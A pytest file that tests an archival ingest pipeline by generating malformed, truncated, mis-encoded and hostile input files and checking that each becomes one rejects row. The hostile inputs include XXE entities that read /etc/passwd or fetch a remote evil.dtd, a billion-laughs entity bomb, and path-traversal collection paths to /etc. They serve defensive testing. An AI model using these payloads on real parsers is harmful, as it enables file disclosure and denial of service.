"""Bad input loses nothing: each broken or hostile file is one rejects row, every good record stays.

The bad files are generated here from real samples (truncated, mutated, re-encoded), next to a
good collection copied from data/raw or tests/samples, and the real ingest stage runs over both.
Spec: issue 8; XML threats: https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html
"""

from __future__ import annotations

import json
import logging
import random
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
import yaml

from pipeline import ingest
from pipeline.params import ConfigError, load_params, parse_collection
from tests.conftest import RAW, SAMPLES

logger = logging.getLogger(__name__)

SYNC = {"scheduler": "synchronous"}
TEI_NS = "http://www.tei-c.org/ns/1.0"
ALTO_NS = "http://www.loc.gov/standards/alto/ns-v3#"
LIDO_NS = "http://www.lido-schema.org"


@dataclass(frozen=True)
class Case:
    """One input class: `make` writes the bad file(s) into the collection folder."""

    label: str  # the input class, as the closing table shows it
    fmt: str
    name: str  # file written (relative to the collection folder); its rejects are matched by it
    make: Callable[[Path, Path], None]  # (collection folder, file path) -> None
    reason: str | None  # expected rejects reason; None: no reject, the file is a good record
    detail: str = ""  # regex the reject's detail must match (names the problem)
    extra_documents: int = 0  # records the file adds (a kept record with a bad date, a BOM)


# --- generators of bad files, all from real samples ---------------------------------------


def _write(data: bytes) -> Callable[[Path, Path], None]:
    def make(folder: Path, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return make


def _truncated(
    source: Path, share: float = 0.5, edit: Callable[[bytes], bytes] = lambda b: b
) -> Callable[[Path, Path], None]:
    def make(folder: Path, path: Path) -> None:
        data = edit(source.read_bytes())
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data[: int(len(data) * share)])

    return make


def _copy(
    source: Path,
    edit: Callable[[str], str] = lambda s: s,
    *,
    encoding: str = "utf-8",
    bom: bytes = b"",
) -> Callable[[Path, Path], None]:
    def make(folder: Path, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(
            bom + edit(source.read_text(encoding="utf-8")).encode(encoding, "xmlcharrefreplace")
        )

    return make


def _hostile(root: str, namespace: str, entities: str, use: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root} [\n{entities}\n]>\n'
        f'<{root} xmlns="{namespace}"><p>{use}</p></{root}>\n'
    ).encode()


def _xxe_file(root: str, ns: str) -> bytes:
    return _hostile(root, ns, '<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")


def _xxe_network(root: str, ns: str) -> bytes:
    # 192.0.2.0/24 is TEST-NET-1 (RFC 5737): never routed, so a leak would hang, not succeed
    return _hostile(root, ns, '<!ENTITY xxe SYSTEM "http://192.0.2.1/evil.dtd">', "&xxe;")


def _laughs(root: str, ns: str) -> bytes:
    lines = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return _hostile(root, ns, "\n".join(lines), "&lol9;")


def _garbage(seed: int = 8) -> bytes:
    return random.Random(seed).randbytes(4096)


def _declare(encoding: str) -> Callable[[str], str]:
    """Set the XML declaration's encoding (adding a declaration when the file has none)."""

    def edit(s: str) -> str:
        s = re.sub(r"^<\?xml[^>]*\?>\s*", "", s)
        return f'<?xml version="1.0" encoding="{encoding}"?>\n{s}'

    return edit


def _tcp_date(date: str) -> Callable[[str], str]:
    # the imprint date of the printed source (what the tcp profile reads), as written
    return lambda s: s.replace("<date>1593]</date>", f"<date>{date}</date>").replace(
        "<date>1593</date>", f"<date>{date}</date>"
    )


def _mojibake_tei(s: str) -> str:
    """A TCP text with French accents, declared ISO-8859-1 while its bytes are UTF-8."""
    s = _declare("ISO-8859-1")(s)
    return s.replace(
        "</head>",
        "</head><p>Été à Paris, déjà très âgé, où l'on sçait que "
        "l'évêque a été reçu à la Cour.</p>",
        1,
    )


def _tate(source: Path, **changes: Any) -> Callable[[Path, Path], None]:
    def make(folder: Path, path: Path) -> None:
        obj = json.loads(source.read_text(encoding="utf-8"))
        for key, value in changes.items():
            if value is None:
                obj.pop(key, None)
            else:
                obj[key] = value
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(obj, indent=1), encoding="utf-8")

    return make


def _alto_lone(source: Path) -> Callable[[Path, Path], None]:
    """A truncated METS issue: its METS cut half way, alone in its folder."""
    return _truncated(source, 0.5)


TCP = RAW / "tcp"
TCP_EXTRA = SAMPLES / "tei" / "tcp_A00001_trimmed.xml"  # not in data/raw/tcp
LUXZEIT = RAW / "bnl-luxzeit"
METS = next(LUXZEIT.rglob("*-mets.xml"))
ALTO_PAGE = next((LUXZEIT).rglob("text/*.xml"))
LIDO = SAMPLES / "lido"
TATE = SAMPLES / "tate"
OCR_PNG = SAMPLES / "ocr" / "bnl_1858_antiqua_4lines.png"

# (format, good sample folder, files of it to copy, collection options, languages)
BASES: dict[str, tuple[Path, str, dict[str, Any], list[str]]] = {
    "tei": (TCP, "*.xml", {"profile": "tcp"}, ["en"]),
    "alto": (LUXZEIT, "**/*", {}, ["de", "fr"]),
    "lido": (LIDO, "*.xml", {}, []),
    "tate": (TATE, "*.json", {}, ["en"]),
    "tesseract": (OCR_PNG.parent, "*.png", {"languages": "fra"}, ["fr"]),
}
KINDS = {"tei": "book", "alto": "press", "lido": "museum", "tate": "museum", "tesseract": "press"}

CASES: list[Case] = [
    # TEI (EEBO-TCP books)
    Case(
        "malformed XML (TEI)",
        "tei",
        "malformed.xml",
        _write(f'<TEI xmlns="{TEI_NS}"><teiHeader><fileDesc></teiHeader></TEI>'.encode()),
        "bad_xml",
        r"mismatch",
    ),
    Case(
        "truncated XML (TEI)",
        "tei",
        "truncated.xml",
        _truncated(TCP / "A50000.xml"),
        "bad_xml",
        r"Premature end|end of data|not closed|EndTag",
    ),
    Case(
        "XXE file entity (TEI)",
        "tei",
        "xxe_file.xml",
        _write(_xxe_file("TEI", TEI_NS)),
        "unsafe_xml",
        r"entities",
    ),
    Case(
        "XXE network entity (TEI)",
        "tei",
        "xxe_net.xml",
        _write(_xxe_network("TEI", TEI_NS)),
        "unsafe_xml",
        r"entities",
    ),
    Case(
        "billion laughs (TEI)",
        "tei",
        "laughs.xml",
        _write(_laughs("TEI", TEI_NS)),
        "unsafe_xml",
        r"entities",
    ),
    # the text reads as mojibake; ftfy repairs it and the record is kept, flagged (issue 20)
    Case(
        "declared ISO-8859-1, UTF-8 bytes (repaired)",
        "tei",
        "latin1_declared.xml",
        _copy(TCP_EXTRA, _mojibake_tei),
        None,
        extra_documents=1,
    ),
    Case(
        "mojibake of one and two layers in a line (repaired)",
        "tei",
        "mixed_layers.xml",
        _copy(
            TCP_EXTRA,
            lambda s: s.replace("</head>", "</head><p>" + "Ã¢â€žÂ¢ cafÃ© " * 80 + "</p>", 1),
        ),
        None,
        extra_documents=1,
    ),
    Case(
        "declared UTF-8, Latin-1 bytes",
        "tei",
        "utf8_declared.xml",
        _copy(
            TCP_EXTRA,
            lambda s: _declare("UTF-8")(s.replace("</head>", "</head><p>Été à Paris</p>", 1)),
            encoding="latin-1",
        ),
        "bad_xml",
        r"UTF-8|encoding|[Bb]ytes",
    ),
    Case(
        "UTF-8 byte-order mark (a good file)",
        "tei",
        "bom.xml",
        _copy(TCP_EXTRA, bom=b"\xef\xbb\xbf"),
        None,
        extra_documents=1,
    ),
    Case(
        "binary garbage named .xml",
        "tei",
        "garbage.xml",
        _write(_garbage()),
        "bad_xml",
        r"Start tag expected|not proper|[Ee]ncoding",
    ),
    Case("zero-byte .xml", "tei", "empty.xml", _write(b""), "empty_file", r"empty\.xml|0"),
    Case(
        "impossible date (31 février 1850)",
        "tei",
        "impossible_date.xml",
        _copy(TCP_EXTRA, _tcp_date("31 février 1850")),
        "impossible_date",
        r"31 février 1850.*not a real calendar date.*kept",
        extra_documents=1,
    ),
    Case(
        "unparseable date",
        "tei",
        "unparseable_date.xml",
        _copy(TCP_EXTRA, _tcp_date("sometime in the reign of the late king")),
        "date_not_understood",
        r"sometime in the reign.*not understood.*kept",
        extra_documents=1,
    ),
    Case(
        "duplicate file (same TEI twice)",
        "tei",
        "copies/A17119.xml",
        _copy(TCP / "A17119.xml"),
        "duplicate_source",
        r"same content as .*A17119\.xml",
    ),
    # ALTO / METS (BnL newspaper issue)
    Case(
        "truncated METS",
        "alto",
        "cut-issue/issue-mets.xml",
        _alto_lone(METS),
        "bad_xml",
        r"Premature end of data.*issue-mets\.xml",
    ),
    Case(
        "malformed ALTO page",
        "alto",
        "lone/page.xml",
        _write(f'<alto xmlns="{ALTO_NS}"><Layout><Page></Layout></alto>'.encode()),
        "bad_xml",
        r"mismatch",
    ),
    Case(
        "truncated ALTO page",
        "alto",
        "cut-page/page.xml",
        _truncated(ALTO_PAGE, 0.3),
        "bad_xml",
        r"line \d+.*page\.xml",
    ),
    Case(
        "XXE file entity (ALTO)",
        "alto",
        "xxe/page.xml",
        _write(_xxe_file("alto", ALTO_NS)),
        "unsafe_xml",
        r"entities",
    ),
    Case(
        "billion laughs (ALTO)",
        "alto",
        "laughs/page.xml",
        _write(_laughs("alto", ALTO_NS)),
        "unsafe_xml",
        r"entities",
    ),
    Case(
        "binary garbage named .xml (ALTO)",
        "alto",
        "garbage/page.xml",
        _write(_garbage(9)),
        "bad_xml",
        r"Start tag expected|not proper|[Ee]ncoding",
    ),
    # LIDO (museum objects)
    # a lidoWrap of 3 records cut half way: the first record is complete and kept (its ids are
    # changed so it is not a copy of the original's), the rest is one bad_xml row
    Case(
        "truncated XML (LIDO batch)",
        "lido",
        "truncated.xml",
        _truncated(
            LIDO / "lido11_fontana_del_moro_wrap.xml",
            0.5,
            lambda b: b.replace(b"DE-Mb112/lido/obj", b"DE-Mb112/lido/cut-obj"),
        ),
        "bad_xml",
        r"Premature end of data.*truncated\.xml",
        extra_documents=1,
    ),
    Case(
        "malformed XML (LIDO)",
        "lido",
        "malformed.xml",
        _write(f'<lido:lido xmlns:lido="{LIDO_NS}"><lido:x></lido:lido>'.encode()),
        "bad_xml",
        r"mismatch",
    ),
    Case(
        "XXE file entity (LIDO)",
        "lido",
        "xxe.xml",
        _write(_xxe_file("lido", LIDO_NS)),
        "unsafe_xml",
        r"entities",
    ),
    Case(
        "XXE network entity (LIDO)",
        "lido",
        "xxe_net.xml",
        _write(_xxe_network("lido", LIDO_NS)),
        "unsafe_xml",
        r"entities",
    ),
    Case(
        "billion laughs (LIDO)",
        "lido",
        "laughs.xml",
        _write(_laughs("lido", LIDO_NS)),
        "unsafe_xml",
        r"entities",
    ),
    Case("zero-byte .xml (LIDO)", "lido", "empty.xml", _write(b""), "empty_file", r"empty"),
    # Tate JSON (museum objects)
    Case(
        "truncated JSON (Tate)",
        "tate",
        "cut.json",
        _truncated(TATE / "t00916-15729.json"),
        "bad_json",
        r"line|char",
    ),
    Case(
        "unparseable date (Tate dateText 'sometime')",
        "tate",
        "sometime.json",
        _tate(TATE / "t00916-15729.json", acno="T99916", dateText="sometime", dateRange=None),
        "date_not_understood",
        r"T99916: date 'sometime' was not understood.*kept",
        extra_documents=1,
    ),
    Case(
        "duplicate id (same acno, other file)",
        "tate",
        "z-copy/t07699.json",
        _tate(TATE / "t07699-27365.json", title="A second record claiming T07699"),
        "duplicate_id",
        r"tate:T07699 already produced",
    ),
    # page images (Tesseract)
    Case("zero-byte image", "tesseract", "zero.png", _write(b""), "empty_file", r"0 bytes"),
    Case(
        "truncated image",
        "tesseract",
        "cut.png",
        _truncated(OCR_PNG, 0.4),
        "bad_image",
        r"truncated|broken|image",
    ),
    Case(
        "non-image .tif",
        "tesseract",
        "not_an_image.tif",
        _write(b"This is a plain text file that someone named .tif\n" * 20),
        "bad_image",
        r"cannot identify image|UnidentifiedImageError",
    ),
]
FORMATS = sorted({c.fmt for c in CASES})


def build_collection(dest: Path, fmt: str, cases: list[Case]) -> Any:
    """A collection `fmt` under dest/data/raw: the good sample plus the given cases' files."""
    source, pattern, options, languages = BASES[fmt]
    folder = dest / "data" / "raw" / fmt
    for path in sorted(source.glob(pattern)):
        if path.is_file():
            (folder / path.relative_to(source)).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(path, folder / path.relative_to(source))
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        case.make(folder, folder / case.name)
    entry = {
        "kind": KINDS[fmt],
        "format": fmt,
        "path": f"data/raw/{fmt}",
        "languages": languages,
        "options": options,
    }
    return parse_collection(fmt, entry, dest)


def run_format(dest: Path, fmt: str, with_bad: bool) -> dict[str, Any]:
    """Ingest the good sample of `fmt` (with or without its bad cases); tables as Python rows."""
    cfg = build_collection(dest, fmt, [c for c in CASES if c.fmt == fmt] if with_bad else [])
    metrics = ingest.run(cfg, dest / "out", dask_section=SYNC)
    return {
        "metrics": metrics,
        "documents": pq.read_table(
            dest / "out" / "documents.parquet", columns=["doc_id", "text", "source_path"]
        ).to_pylist(),
        "rejects": pq.read_table(dest / "out" / "rejects.parquet").to_pylist(),
    }


def rejects_of(case: Case, rejects: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The rejects rows about the case's file (paths are relative to the collection's parent)."""
    return [r for r in rejects if r["source_path"].endswith(f"{case.fmt}/{case.name}")]


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    out: dict[str, dict[str, Any]] = {}
    for fmt in FORMATS:
        out[fmt] = run_format(tmp_path_factory.mktemp(f"good-{fmt}"), fmt, with_bad=False)
        out[f"{fmt}+bad"] = run_format(tmp_path_factory.mktemp(f"bad-{fmt}"), fmt, with_bad=True)
    return out


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_good_sample_alone_has_no_rejects(runs: dict[str, dict[str, Any]], fmt: str) -> None:
    good = runs[fmt]
    assert good["documents"], fmt
    assert good["rejects"] == [], good["rejects"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_good_record_survives_the_bad_files(
    runs: dict[str, dict[str, Any]], fmt: str
) -> None:
    good, bad = runs[fmt], runs[f"{fmt}+bad"]
    texts = {d["doc_id"]: d["text"] for d in bad["documents"]}
    for doc in good["documents"]:
        assert texts.get(doc["doc_id"]) == doc["text"], f"{doc['doc_id']} lost or changed"
    extra = sum(c.extra_documents for c in CASES if c.fmt == fmt)
    assert len(bad["documents"]) == len(good["documents"]) + extra
    # and nothing else: every rejects row belongs to one of the generated cases
    claimed = {id(r) for c in CASES if c.fmt == fmt for r in rejects_of(c, bad["rejects"])}
    assert [r for r in bad["rejects"] if id(r) not in claimed] == []


@pytest.mark.parametrize("case", CASES, ids=[c.label for c in CASES])
def test_each_bad_file_is_one_understandable_reject(
    runs: dict[str, dict[str, Any]], case: Case
) -> None:
    bad = runs[f"{case.fmt}+bad"]
    rows = rejects_of(case, bad["rejects"])
    if case.reason is None:
        assert rows == []
        assert any(d["source_path"].endswith(case.name) for d in bad["documents"])
        return
    assert len(rows) == 1, rows
    (row,) = rows
    assert row["reason"] == case.reason, row
    assert row["stage"] == "ingest" and row["collection"] == case.fmt
    assert re.search(case.detail, row["detail"], re.DOTALL), row["detail"]


def test_the_xxe_target_never_reaches_a_table(runs: dict[str, dict[str, Any]]) -> None:
    passwd = Path("/etc/passwd").read_text(encoding="utf-8", errors="replace").split("\n")[0]
    assert passwd
    for fmt in FORMATS:
        for doc in runs[f"{fmt}+bad"]["documents"]:
            assert passwd not in doc["text"]
        for row in runs[f"{fmt}+bad"]["rejects"]:
            assert passwd not in row["detail"]


def test_an_empty_collection_completes_with_empty_tables(tmp_path: Path) -> None:
    folder = tmp_path / "data" / "raw" / "nothing"
    folder.mkdir(parents=True)
    cfg = parse_collection(
        "nothing", {"kind": "book", "format": "tei", "path": "data/raw/nothing"}, tmp_path
    )
    metrics = ingest.run(cfg, tmp_path / "out", dask_section=SYNC)
    assert (metrics["n_units"], metrics["n_documents"], metrics["n_rejects"]) == (0, 0, 0)
    assert metrics["reject_share"] == 0.0
    for table in ("documents", "pages", "rejects"):
        assert pq.read_table(tmp_path / "out" / f"{table}.parquet").num_rows == 0


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("data/raw/not-there", r"does not exist; fix 'path' or add the files"),
        ("../../etc", r"outside .*; move it under data/raw/ or set 'allow_outside: true'"),
        ("data/raw/../../../etc", r"outside .*allow_outside"),
        ("/etc", r"outside .*allow_outside"),
    ],
)
def test_a_bad_collection_path_fails_at_once_naming_the_fix(
    tmp_path: Path, path: str, message: str
) -> None:
    (tmp_path / "data" / "raw").mkdir(parents=True)
    (tmp_path / "params.yaml").write_text(
        f"collections:\n  books:\n    kind: book\n    format: tei\n    path: {path}\n",
        encoding="utf-8",
    )
    with pytest.raises(ConfigError, match=message):
        load_params(tmp_path / "params.yaml")


def test_a_symlink_out_of_the_data_root_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (tmp_path / "data" / "raw").mkdir(parents=True)
    (tmp_path / "data" / "raw" / "link").symlink_to(outside)
    with pytest.raises(ConfigError, match="outside"):
        parse_collection(
            "books", {"kind": "book", "format": "tei", "path": "data/raw/link"}, tmp_path
        )


def _threshold_repo(tmp_path: Path, limit: object) -> Path:
    """A scratch repository whose only collection is tcp + 3 broken files + a bad date."""
    from tests.test_crash_safety import make_scratch

    repo = make_scratch(tmp_path / "repo")
    books = repo / "data" / "raw" / "books"
    shutil.copytree(repo / "data" / "raw" / "tcp", books)
    chosen = {"malformed.xml", "garbage.xml", "empty.xml", "impossible_date.xml"}
    for case in CASES:
        if case.fmt == "tei" and case.name in chosen:
            case.make(books, books / case.name)
    params = yaml.safe_load((repo / "params.yaml").read_text(encoding="utf-8"))
    params["collections"] = {
        "books": {
            "kind": "book",
            "format": "tei",
            "path": "data/raw/books",
            "languages": ["en"],
            "options": {"profile": "tcp"},
        }
    }
    params["ingest"]["max_reject_share"] = limit
    (repo / "params.yaml").write_text(yaml.safe_dump(params, allow_unicode=True), encoding="utf-8")
    return repo


def _ingest_cli(repo: Path) -> subprocess.CompletedProcess[str]:
    from tests.test_crash_safety import scratch_env

    return subprocess.run(
        [sys.executable, "-m", "pipeline.ingest", "books"],
        cwd=repo,
        env=scratch_env(repo),
        capture_output=True,
        text=True,
        timeout=300,
    )


@pytest.mark.parametrize(("limit", "code"), [(0.2, 2), (0.3, 0), (0.5, 0)])
def test_the_stage_fails_only_above_max_reject_share_and_says_so(
    tmp_path: Path, limit: float, code: int
) -> None:
    proc = _ingest_cli(_threshold_repo(tmp_path, limit))
    assert proc.returncode == code, proc.stderr[-2000:]
    metrics = json.loads((tmp_path / "repo" / "reports" / "ingest" / "books.json").read_text())
    # 3 lost files of 11 units (8 records kept); the bad date is a row but loses nothing
    assert (metrics["n_documents"], metrics["n_rejects"], metrics["n_rejects_kept"]) == (8, 4, 1)
    assert metrics["reject_share"] == round(3 / 11, 4)
    if code:
        assert "FAILED: 27.3% of the units and records were rejected" in proc.stderr
        assert "above ingest.max_reject_share=20.0% in params.yaml" in proc.stderr
        assert "rejects.parquet" in proc.stderr
    else:
        assert "FAILED" not in proc.stderr
    assert "ingest books: 8 documents" in proc.stdout


@pytest.mark.parametrize("limit", ["half", 1.5, -0.1, True])
def test_a_bad_max_reject_share_is_a_configuration_error(tmp_path: Path, limit: object) -> None:
    proc = _ingest_cli(_threshold_repo(tmp_path, limit))
    assert proc.returncode == 2
    assert "configuration error: params.yaml: ingest.max_reject_share" in proc.stderr
    assert "set a share between 0 and 1" in proc.stderr
    assert not (tmp_path / "repo" / "data" / "staged" / "books").exists()
